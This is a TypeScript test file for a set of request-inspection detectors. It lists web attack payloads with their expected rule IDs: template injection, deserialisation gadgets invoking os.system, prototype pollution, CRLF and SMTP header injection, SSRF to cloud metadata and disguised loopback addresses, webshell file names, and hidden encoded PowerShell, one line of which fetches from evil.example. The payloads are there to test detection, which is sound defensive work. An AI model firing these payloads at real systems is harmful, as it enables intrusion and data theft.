import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Detector, Value } from '../detector.ts'
import { dataUriDetector, deserialisationDetector } from './deserialisation.ts'
import { linesDetector } from './lines.ts'
import { prototypeDetector } from './prototype.ts'
import { scannerDetector } from './scanner.ts'
import { powershellDetector } from './shell/powershell.ts'
import { ssiDetector } from './ssi.ts'
import { templateDetector } from './template.ts'
import { proofsOf } from './testing.ts'
import { uploadDetector } from './upload.ts'
import { urlDetector } from './url.ts'

type Case = readonly [Detector, string, string, Partial<Value>?]

const agent: Partial<Value> = { location: 'header', name: 'user-agent' }
const fileName: Partial<Value> = { location: 'file-name', name: 'file' }

const attacks: readonly Case[] = [
  [templateDetector, '{{7*7}}', 'ssti.arithmetic'],
  [templateDetector, '{{a {{7*7}} b}}', 'ssti.arithmetic'],
  [templateDetector, "#{ 3 * '3' }", 'ssti.arithmetic'],
  [templateDetector, "{{''.__class__.__mro__}}", 'ssti.object-internals'],
  [templateDetector, "{{'a'.toUpperCase()}}", 'ssti.literal-method'],
  [templateDetector, '{{config.items()}}', 'ssti.root'],
  [templateDetector, '{{request}}', 'ssti.bare-root'],
  [templateDetector, "<%= File.open('/etc/passwd').read %>", 'ssti.call'],
  [templateDetector, '<#assign x = "y"?new()>', 'ssti.directive'],
  [templateDetector, '{$smarty.version}', 'ssti.root'],
  [deserialisationDetector, 'O:8:"stdClass":1:{s:1:"a";i:2;}', 'deserialisation.php'],
  [deserialisationDetector, 'rO0ABXNyABFqYXZhLnV0aWw', 'deserialisation.java'],
  [deserialisationDetector, '_$$ND_FUNC$$_function(){}', 'deserialisation.node'],
  [deserialisationDetector, '!!python/object/apply:os.system ["id"]', 'deserialisation.yaml'],
  [deserialisationDetector, "cos\nsystem\n(S'id'\ntR.", 'deserialisation.python-pickle'],
  [deserialisationDetector, '{"$type": "System.Windows.Data.ObjectDataProvider"}', 'deserialisation.dotnet'],
  [dataUriDetector, 'data:text/html;base64,PHNjcmlwdD4=', 'php.data-uri'],
  [prototypeDetector, '__proto__[admin]', 'prototype.path'],
  [prototypeDetector, 'constructor.prototype.x', 'prototype.path'],
  [prototypeDetector, '{"__proto__": {"x": 1}}', 'prototype.path'],
  [linesDetector, 'x\r\nSet-Cookie: a=b', 'crlf.field'],
  [linesDetector, '\nPOST / HTTP/1.1', 'crlf.start-line'],
  [linesDetector, 'GET http://evil.example/ HTTP/1.1', 'crlf.request-line'],
  [linesDetector, '\u560d\u560aSet-cookie:x=y', 'crlf.folded-break'],
  [linesDetector, '\r\nRCPT TO: <x@evil.example>', 'crlf.smtp'],
  [linesDetector, '\r\nA1 FETCH 4791', 'crlf.imap'],
  [linesDetector, '\r\nRETR 3', 'crlf.pop3'],
  [linesDetector, 'a@b.example\nBcc: all@x.example', 'crlf.recipient'],
  [ssiDetector, '<!--#exec cmd="ls" -->', 'ssi.directive'],
  [ssiDetector, '<esi:include src="http://x"/>', 'ssi.directive'],
  [urlDetector, 'http://169.254.169.254/latest/meta-data/', 'ssrf.metadata'],
  [urlDetector, 'http://metadata.google.internal/computeMetadata/v1/', 'ssrf.metadata'],
  [urlDetector, 'http://2130706433/', 'ssrf.host-spelling'],
  [urlDetector, 'http://0x7f.1/', 'ssrf.host-spelling'],
  [urlDetector, 'http://0177.0.0.1/', 'ssrf.host-spelling'],
  [urlDetector, 'http://[::ffff:7f00:1]/', 'ssrf.address-v6'],
  [urlDetector, 'http://\u2460\u2461\u2466.0.0.1/', 'ssrf.host-spelling'],
  [urlDetector, 'gopher://127.0.0.1:6379/_x', 'ssrf.scheme'],
  [urlDetector, 'http://localhost:6379/', 'ssrf.loopback-service'],
  [urlDetector, 'kubernetes.default.svc.cluster.local/', 'ssrf.inside'],
  [urlDetector, 'http://10.1.2.3/shell.php', 'ssrf.address'],
  [urlDetector, 'http://evil.example/shell.txt?', 'ssrf.open-query'],
  [urlDetector, 'file:///etc/passwd', 'ssrf.file'],
  [uploadDetector, 'shell.php.jpg', 'upload.run-by-server', fileName],
  [uploadDetector, 'a.phtml...', 'upload.run-by-server', fileName],
  [uploadDetector, '.htaccess', 'upload.settings', fileName],
  [scannerDetector, 'Mozilla/5.0 (compatible; Nikto/2.5)', 'scanner.agent', agent],
  [scannerDetector, 'http://x1.oastify.com/', 'scanner.callback'],
  [powershellDetector, 'powershell -nop -w hidden -enc SQBFAFgA', 'rce.powershell'],
  [powershellDetector, ';Invoke-WebRequest http://evil.example', 'rce.cmdlet'],
]
for (const [detector, text, rule, more] of attacks)
  test(`${detector.name}: ${JSON.stringify(text)} is ${rule}`, () =>
    assert.ok(proofsOf(detector, text, more).includes(rule), proofsOf(detector, text, more).join()))

const harmless: readonly (readonly [Detector, string, Partial<Value>?])[] = [
  [templateDetector, 'Hello {{name}}, your order {{ order.id }} has shipped'],
  [templateDetector, '{{#each items}}{{this.title}}{{/each}}'],
  [templateDetector, 'Dear ${user.first_name}'],
  [templateDetector, '${env.VAR}'],
  [templateDetector, '{{ value | currency }}'],
  [templateDetector, '<%= name %>'],
  [templateDetector, '#{color} @(home) {a: 1}'],
  [templateDetector, '50% {discount} #1'],
  [deserialisationDetector, 'system. a:1:b and bah humbug'],
  [dataUriDetector, 'data:image/png;base64,iVBORw0KGgo='],
  [dataUriDetector, 'data: see below'],
  [prototypeDetector, 'a prototype of the constructor pattern'],
  [linesDetector, 'Hello,\nplease find the list.\nBest, Anna'],
  [linesDetector, 'GET /index.html HTTP/1.1'],
  [linesDetector, 'Subject: hi\nto the world'],
  [ssiDetector, '<!-- a comment -->'],
  [urlDetector, 'https://www.example.com/a?b=c'],
  [urlDetector, 'http://localhost:3000/callback'],
  [urlDetector, 'https://192.168.1.10:8443/dashboard'],
  [urlDetector, 'mongodb://localhost:27017/test'],
  [urlDetector, 'file:///home/anna/photo.jpg'],
  [urlDetector, 'ldap://dir.example.com/cn=anna'],
  [urlDetector, 'git@github.com:a/b.git'],
  [uploadDetector, "Anna's CV; final (2).pdf", fileName],
  [uploadDetector, 'photo.phpx.png.txt', fileName],
  [uploadDetector, 'shell.php', { location: 'query' }],
  [scannerDetector, 'nikto is a scanner'],
  [powershellDetector, 'get-together and set-up of the start-up'],
]
for (const [detector, text, more] of harmless)
  test(`${detector.name}: ${JSON.stringify(text)} passes`, () => assert.deepEqual(proofsOf(detector, text, more), []))
